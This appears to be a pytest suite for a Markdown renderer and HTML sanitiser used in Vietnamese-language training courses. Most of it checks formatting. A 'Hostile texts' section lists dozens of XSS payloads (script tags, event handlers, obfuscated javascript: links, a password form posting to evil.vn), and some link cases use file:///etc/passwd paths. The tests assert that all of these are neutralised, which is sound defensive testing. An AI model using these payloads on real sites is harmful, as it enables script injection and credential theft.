"""Markdown as office staff write it, and nothing active out of whatever anyone writes."""

import ast
import re
from pathlib import Path

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from learning.content import rendering, sanitise
from learning.content.rendering import Image, Renderer, anchor
from tests.content.growth import in_proportion
from tests.content.pages import HEAD, compile_page

IMAGES = {
    "images/so do.png": Image("images/so do.png", "a" * 64, 320, 120),
    "audio/chào.mp3": Image("audio/chào.mp3", "b" * 64),
}
PLAYER = f'<audio controls="" preload="none" src="/media/{"b" * 64}/ch%C3%A0o.mp3"></audio>'


@pytest.fixture
def render() -> Renderer:
    return Renderer("finance", "sample", IMAGES, page="10-bai.md")


def test_a_list_may_follow_its_paragraph_and_nest_by_two_spaces(render):
    html = render.body("Cần:\n- một\n  - hai\n    tiếp\n- ba\n\nSau\n1) bốn\n2) năm")
    assert re.sub(r"\s*\n\s*", "", html) == (
        "<p>Cần:</p><ul><li>một<ul><li>haitiếp</li></ul></li><li>ba</li></ul><p>Sau</p><ol><li>bốn</li><li>năm</li></ol>"
    )


def test_a_year_at_the_start_of_a_line_begins_no_list(render):
    assert render.body("Luật có hiệu lực từ\n2026. Sau đó thì khác.") == (
        "<p>Luật có hiệu lực từ\n2026. Sau đó thì khác.</p>"
    )


def test_indented_text_is_no_code(render):
    assert render.body("    Thụt đầu dòng") == "<p>Thụt đầu dòng</p>"


def test_a_recording_on_a_line_of_its_own_has_its_words_below(render):
    html = render.body("Nghe:\n\n![Cán bộ: “Mời <b>bác</b>\nngồi.”](audio/chào.mp3)\n\nSau")
    words = "<figcaption>Cán bộ: “Mời &lt;b&gt;bác&lt;/b&gt;\nngồi.”</figcaption>"
    assert html == f'<p>Nghe:</p>\n<figure class="audio">{PLAYER}{words}</figure>\n<p>Sau</p>'


def test_a_recording_among_words_is_among_words(render):
    html = render.body("Nghe ![Mời bác ngồi](audio/ch%C3%A0o.mp3) đã")
    assert html == f'<p>Nghe <span class="audio">{PLAYER} Mời bác ngồi</span> đã</p>'


def test_a_recording_that_is_not_there_is_its_words(render):
    assert render.body("![Mời bác ngồi](audio/khong.mp3)") == "<p><span>Mời bác ngồi</span></p>"


@pytest.mark.parametrize(
    "more",
    [
        "autoplay",
        "loop",
        'onplay="alert(1)"',
        'class="audio"',
        'id="c-x"',
        'style="x"',
        'preload="auto"',
        "muted",
        "crossorigin",
    ],
)
def test_a_player_plays_our_own_when_it_is_asked_and_no_sooner(more):
    ours = f"/media/{'b' * 64}/a.mp3"
    player = f'<audio controls="" preload="none" src="{ours}"></audio>'
    assert sanitise.sanitise(f'<audio {more} src="{ours}"></audio>') == player
    assert sanitise.sanitise(player) == player
    for foreign in (
        "https://evil.vn/a.mp3",
        "//evil.vn/a.mp3",
        "data:audio/mp3;base64,AA",
        "/logout",
        "javascript:alert(1)",
    ):
        assert sanitise.sanitise(f'<audio {more} controls src="{foreign}"></audio>') == "<audio></audio>"


def test_headings_begin_at_two_and_have_ids(render):
    html = render.body("# Đất đai\n## Khi *thiếu*\n### Đất đai")
    assert html == (
        '<h2 id="c-dat-dai">Đất đai</h2>\n<h2 id="c-khi-thieu">Khi <em>thiếu</em></h2>\n<h3 id="c-dat-dai-2">Đất đai</h3>'
    )
    assert anchor("Đất đai") == "c-dat-dai"


@pytest.mark.parametrize(
    ("written", "kind"),
    [
        ("> **Lưu ý:** x", "note"),
        ("> **Lưu ý**: x", "note"),
        ("> **Căn cứ:** x", "source"),
        ("> **Ví dụ:** x", "example"),
        ("> **Tình huống:** x", "case"),
        ("> [!NOTE]\n> x", "note"),
        ("> [!WARNING] x", "warning"),
    ],
)
def test_notices(render, written, kind):
    html = render.body(written)
    assert html.startswith(f'<aside class="notice notice-{kind}"><p><strong>')
    assert "[!" not in html


def test_quotations_that_follow_each_other_stay_apart(render):
    html = render.body("> chỉ là trích\n\n> **Lưu ý:** a\n>\n> b\n\n> **Ví dụ:** c")
    assert re.findall(r"<(aside[^>]*|blockquote)>", html) == [
        "blockquote",
        'aside class="notice notice-note"',
        'aside class="notice notice-example"',
    ]


def test_tables_scroll_and_align_by_class(render):
    html = render.body("## Giá\nXem:\n| A | B |\n|:--|--:|\n| 1 | 2 |")
    assert 'role="region"' in html
    assert 'tabindex="0"' in html
    assert 'class="table-scroll"' in html
    assert 'aria-label="Bảng: Giá"' in html
    assert '<th class="align-left" scope="col">A</th>' in html
    assert '<td class="align-right">2</td>' in html
    assert "style" not in html


def test_numbers_of_documents_do_not_break(render):
    for text in ("118/2025/NĐ-CP", "31/2024/QH15", "19/2025/QĐ-TTg", "24/CT-TTg", "57-NQ/TW"):
        assert render.leaf(f"Theo {text}.") == f'Theo <span class="nobr">{text}</span>.'
        assert render.leaf(f"Theo **{text}**.") == f'Theo <strong><span class="nobr">{text}</span></strong>.'
    for text in ("Ngày 01/2025/ và 1/2/2025", "Khổ 10-A2, tờ 12/A, 3/N lần"):
        assert render.leaf(text) == text


def test_images_are_those_of_the_course(render):
    html = render.body("![Sơ đồ](images/so%20do.png)")
    assert f'src="/media/{"a" * 64}/so%20do.png"' in html
    assert 'alt="Sơ đồ"' in html
    assert 'width="320"' in html
    assert 'height="120"' in html
    assert 'loading="lazy"' in html
    assert render.body("![Ngoài](https://x.vn/a.png)") == "<p><span>Ngoài</span></p>"
    assert render.body("![Mất](images/mat.png)") == "<p><span>Mất</span></p>"


@pytest.mark.parametrize(
    ("target", "address"),
    [
        ("20-tam-ung.md", "/courses/finance/sample/tam-ung"),
        ("20-tam-ung.md#Khi-nào", "/courses/finance/sample/tam-ung#c-khi-nao"),
        ("course.md", "/courses/finance/sample"),
        ("exam.md", "/courses/finance/sample/exam"),
        ("../other/10-a.md", "/courses/finance/other/a"),
        ("../../land/x/course.md", "/courses/land/x"),
        ("#phan-2", "#c-phan-2"),
        ("/courses/land/x", "/courses/land/x"),
        ("https://x.vn/?a=b&c", "https://x.vn/?a=b&c"),
        ("mailto:a@b.vn", "mailto:a@b.vn"),
        ("tel:0256", "tel:0256"),
        ("../../../etc/passwd", None),
        ("images/a.png", None),
        ("//evil.vn", None),
        ("/\\evil.vn", None),
        ("javascript:alert(1)", None),
        ("", None),
    ],
)
def test_where_links_lead(render, target, address):
    assert render.address(target) == address


def test_links_out_say_so(render):
    assert render.leaf("[x](https://x.vn)") == '<a href="https://x.vn" rel="noopener noreferrer">x</a>'
    assert render.leaf("[x](course.md)") == '<a href="/courses/finance/sample">x</a>'
    assert render.leaf("<a@b.vn>") == '<a href="mailto:a@b.vn">a@b.vn</a>'
    assert render.leaf("[x](data:text/html,y)") == "<span>x</span>"


def test_footnotes_definitions_and_code(render):
    html = render.body(
        "Một[^ghi chú], hai[^ghi chú].\n\nTừ\n: Nghĩa\n\n```python\n<b>\n```\n\n[^ghi chú]: Nguồn."
    )
    assert '<sup id="c-fnref-ghi-chu"><a class="footnote-ref" href="#c-fn-ghi-chu">1</a></sup>' in html
    assert '<li id="c-fn-ghi-chu">' in html
    assert "<dt>Từ</dt>\n<dd>Nghĩa</dd>" in html
    assert "<pre><code>&lt;b&gt;\n</code></pre>" in html


def test_english_courses_have_english_labels():
    render = Renderer("it", "x", language="en")
    assert "<strong>Note:</strong>" in render.body("> [!NOTE]\n> x")
    assert 'aria-label="Table"' in render.body("| a |\n|---|\n| b |")


def test_words_of_another_language_say_which(render):
    html = render.block("Máy học ([machine *learning*]{lang=en}), **[học]{lang=jra}**")
    assert '(<span lang="en">machine <em>learning</em></span>)' in html
    assert '<strong><span lang="jra">học</span></strong>' in html
    assert render.leaf("[cloud]{lang=en}") == '<span lang="en">cloud</span>'


@pytest.mark.parametrize(
    "written", ["[x]{lang=english}", '[x]{lang=e"n}', r"\[x]{lang=en}", "`[x]{lang=en}`", "[x]{onclick=en}"]
)
def test_what_is_no_language_stays_as_it_is_written(render, written):
    assert "<span" not in render.block(written)


def test_raw_html_is_shown_as_text(render):
    assert render.leaf("<b>x</b> & y") == "&lt;b&gt;x&lt;/b&gt; &amp; y"


# --- The short cut


PLAIN_TEXT = st.text(
    alphabet=st.one_of(
        st.sampled_from(list("aàảãáạâđêơưứỹ AĐ09.,;:?!()%\"'/+-–—“”‘’…±×°_*`[]<>&#|~=\\\n\u00a0\u200b")),
        st.characters(codec="utf-8"),
    ),
    max_size=60,
)


@settings(max_examples=100, deadline=None)
@given(st.one_of(PLAIN_TEXT, st.from_regex(rendering._PLAIN, fullmatch=True)))
def test_the_short_cut_gives_what_the_long_way_gives(text):
    render = Renderer("finance", "sample")
    for paragraph in (True, False):
        short = render.leaf_or_none(text, paragraph=paragraph)
        if short is not None:
            long = render._render(render._fragment, text)
            assert long == (short if paragraph else f"<p>{short}</p>")


def test_plain_options_take_the_short_cut(render):
    for text in (
        "Bộ phận Một cửa",
        "20 ngày (kể từ 01/7/2025)",
        "“Đúng” – 50%; theo 118/2025/NĐ-CP?",
        "Không: vì sao?",
    ):
        assert render.leaf_or_none(text, paragraph=False) is not None, text
    for text in ("1. Một", "https://x.vn", "a_b_", "A & B", "- x", "# x", "> x", ": x"):
        assert render.leaf_or_none(text, paragraph=False) is None, text


# --- Hostile texts


PAYLOADS = r"""
<script>alert(1)</script>
<ScRiPt src=//evil.vn/x.js></sCrIpT>
<img src=x onerror=alert(1)>
<img src="javascript:alert(1)">
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<iframe src="https://evil.vn"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<form action="https://evil.vn"><input name=password></form>
<button formaction="javascript:alert(1)">x</button>
<style>@import 'https://evil.vn/x.css';</style>
<div style="background:url(javascript:alert(1))">x</div>
<link rel=stylesheet href=//evil.vn/x.css>
<meta http-equiv=refresh content="0;url=https://evil.vn">
<base href="https://evil.vn/">
<a href="javascript:alert(1)">x</a>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<body onload=alert(1)>
<marquee onstart=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<!--[if IE]><script>alert(1)</script><![endif]-->
<?php echo 1 ?><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](java&#115;cript:alert(1))
[x](&#106;avascript:alert(1))
[x](javascript&colon;alert(1))
[x](java\tscript:alert(1))
[x](\x01javascript:alert(1))
[x]( javascript:alert(1))
[x](<javascript:alert(1)>)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](vbscript:msgbox(1))
[x](file:///etc/passwd)
[x](//evil.vn)
[x](/\\evil.vn)
[x](https://evil.vn"onmouseover="alert(1))
[x](https://x.vn "t" onmouseover="alert(1)")
[x](https://x.vn '"><script>alert(1)</script>')
[x][r]\n\n[r]: javascript:alert(1)
[r]\n\n[r]: <javascript:alert(1)> "x"
![x](javascript:alert(1))
![x](https://evil.vn/x.png)
![x" onerror="alert(1)](images/so%20do.png)
![x](images/so%20do.png "x\\" onerror=alert(1)")
![x](x.svg)
![x" autoplay onplay="alert(1)](audio/ch%C3%A0o.mp3)
![<script>alert(1)</script>](audio/chào.mp3 "x\\" autoplay onerror=alert(1)")
![x](https://evil.vn/x.mp3)
[![x](audio/chào.mp3)](javascript:alert(1))
<audio src=x onerror=alert(1)>
<audio controls autoplay loop src="https://evil.vn/x.mp3" onplay=alert(1)></audio>
<audio><source src=x onerror=alert(1)></audio>
<figure onclick=alert(1)><figcaption style="position:fixed">x</figcaption></figure>
<javascript:alert(1)>
<data:text/html,x>
`<script>alert(1)</script>`
```\n<script>alert(1)</script>\n```
``` {.x onclick=alert(1)}\nx\n```
```"><script>alert(1)</script>\nx\n```
| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |
> **Lưu ý:** <script>alert(1)</script>
> [!NOTE]<img src=x onerror=alert(1)>
Từ\n: <script>alert(1)</script>
x[^1]\n\n[^1]: [x](javascript:alert(1)) <img src=x onerror=alert(1)>
x[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: y
## <img src=x onerror=alert(1)>
## x" onclick="alert(1)
&lt;script&gt;alert(1)&lt;/script&gt;
\\<script>alert(1)</script>
**<script>**alert(1)**</script>**
*[x](javascript:alert(1)*)
\x02klzzwxh:0001\x03 <b onclick=alert(1)>
\ue000g1\ue001 \ue000d0\ue001 <script>alert(1)</script>
118/2025/NĐ-CP<script>alert(1)</script>
[118/2025/NĐ-CP](javascript:alert(1))
(1)____ <img src=x onerror=alert(1)>
<x onclick=alert(1)>\n\n<script>alert(1)\n\n</script>
""".strip().split("\n")
PAYLOADS = [
    payload.replace("\\n", "\n").replace("\\t", "\t").replace("\\x01", "\x01") for payload in PAYLOADS
]

SAFE_ATTRIBUTES = {
    "href", "rel", "title", "src", "alt", "width", "height", "loading", "start", "scope", "colspan", "rowspan",
    "tabindex", "role", "aria-label", "data-gap", "class", "id", "controls", "preload",
}  # fmt: skip


def active(html: str) -> list[str]:
    """What a browser could act on: elements, attributes and addresses that are not on a short list."""
    found = []
    for node in html5lib.parseFragment(html, namespaceHTMLElements=False).iter():
        if not isinstance(node.tag, str) or node.tag == "DOCUMENT_FRAGMENT":
            continue
        if node.tag not in sanitise.TAGS:
            found.append(f"<{node.tag}>")
        for name, value in node.attrib.items():
            if name not in SAFE_ATTRIBUTES:
                found.append(f"{node.tag} {name}")
            if node.tag == "audio" and (
                name not in ("controls", "preload", "src") or (name == "preload" and value != "none")
            ):
                found.append(f"audio {name}={value}")
            if name == "href" and not re.match(r"(https?://|mailto:|tel:|/(?![/\\])|#)", value):
                found.append(value)
            if name == "src" and not re.match(r"/media/[0-9a-f]{64}/", value):
                found.append(value)
            if name == "id" and not value.startswith("c-"):
                found.append(f"id {value}")
    return found


def test_the_corpus_is_large_enough():
    assert len(set(PAYLOADS)) >= 40


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_hostile_text_stays_active(render, payload):
    for html in (render.body(payload), render.block(payload), render.leaf(payload), render.prompt(payload)):
        assert active(html) == []
    assert active(sanitise.sanitise(payload)) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_hostile_question_stays_active(payload):
    line = payload.split("\n")[0]
    page, _ = compile_page(
        f"{HEAD}\n{payload}\n\n## Câu hỏi\n\n### {line}\nMã: a\n\n{payload}\n\n- (x) {line}\n  > {line}\n- ( ) b\n\n"
        f"Gợi ý: {line}\nGiải thích: {line}\n"
    )
    texts = [page.html]
    for question in page.quiz.questions if page.quiz else ():
        texts += [question.prompt, question.explanation, *question.hints]
        for option in getattr(question, "options", ()):
            texts += [option.html, option.feedback]
    for html in texts:
        assert active(html) == []


@settings(max_examples=100, deadline=None)
@given(
    st.text(
        alphabet=st.sampled_from(list("<>&\"'=/ \n`*_[]()!#|:-xajs1")) | st.characters(codec="utf-8"),
        max_size=200,
    )
)
def test_no_text_raises_or_stays_active(text):
    render = Renderer("finance", "sample", IMAGES)
    for html in (render.body(text), render.prompt(text), render.leaf(text)):
        assert active(html) == []


@settings(max_examples=100, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("<>&\"'=/ !-[]abimgscriptonlehrf:x")), max_size=120))
def test_no_html_gets_by_the_sanitisers(html):
    cleaned = sanitise.sanitise(html)
    assert active(cleaned) == []
    assert sanitise.sanitise(cleaned) == cleaned


@pytest.mark.parametrize(
    "seed",
    [
        "[",
        "*a **b ",
        ">",
        "- a\n",
        "|",
        "`",
        "[a](b",
        "<",
        "a\n\n",
        "\\",
        "1. ",
        "![[",
        "_a_ ",
        "# a\n",
        "(1)__",
        "  - a\n",
        "31/2024/QH15 ",
    ],
)
def test_long_inputs_take_no_longer_than_their_length_asks(render, seed):
    assert in_proportion(lambda length: render.body(seed * (length // len(seed))), 6_000)


def test_only_one_file_sanitises_and_only_one_renders():
    importers: dict[str, set[str]] = {}
    root = Path(rendering.__file__).parent.parent
    for path in root.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text())):
            names = [alias.name for alias in node.names] if isinstance(node, ast.Import) else []
            names += [node.module or ""] if isinstance(node, ast.ImportFrom) else []
            for name in names:
                importers.setdefault(name.split(".")[0], set()).add(path.relative_to(root).as_posix())
    assert importers["bleach"] == importers["nh3"] == {"content/sanitise.py"}
    assert importers["markdown"] == {"content/rendering.py"}
